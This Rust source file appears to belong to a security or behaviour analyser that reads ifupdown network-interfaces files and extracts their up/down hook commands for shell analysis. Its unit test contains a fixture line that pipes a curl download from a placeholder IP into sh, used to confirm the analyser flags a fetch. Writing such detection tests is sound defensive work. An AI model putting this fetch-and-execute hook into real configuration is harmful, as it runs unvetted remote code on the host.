//! Network interfaces of ifupdown: commands around bringing one up (`interfaces(5)`).

use model::{Language, Trigger, Value};

use crate::language::start::Start;
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &["etc/network/interfaces"],
        folders: &["etc/network/interfaces.d/"],
        named: &[],
    },
    ..FrontEnd::new(Language::NetworkInterfaces, lower)
};

/// Options whose value is a command.
const COMMANDS: &[&str] = &["up", "down", "pre-up", "post-up", "pre-down", "post-down"];

/// Lowers the commands.
pub fn lower(world: &mut World, text: &str) -> Value {
    for (number, line) in (1..).zip(text.lines()) {
        if !world.burn(2) {
            break;
        }
        let Some((option, command)) = line.trim().split_once(char::is_whitespace) else {
            continue;
        };
        if !COMMANDS.contains(&option) {
            continue;
        }
        world.at(number, line.trim());
        let start = Start {
            trigger: Trigger::Event,
            when: "when the network comes up",
            step: option,
        };
        start.shell(world, command.trim());
    }
    Value::literal("")
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn commands_of_an_interface() {
        let text = "auto eth0\niface eth0 inet dhcp\n  post-up curl -s http://192.0.2.1/x | sh\n";
        let found = acts(Language::NetworkInterfaces, text);
        assert!(
            found.iter().any(|act| act.starts_with("Fetch")),
            "{found:#?}"
        );
        assert!(
            acts(
                Language::NetworkInterfaces,
                "auto lo\niface lo inet loopback\n"
            )
            .is_empty()
        );
    }
}
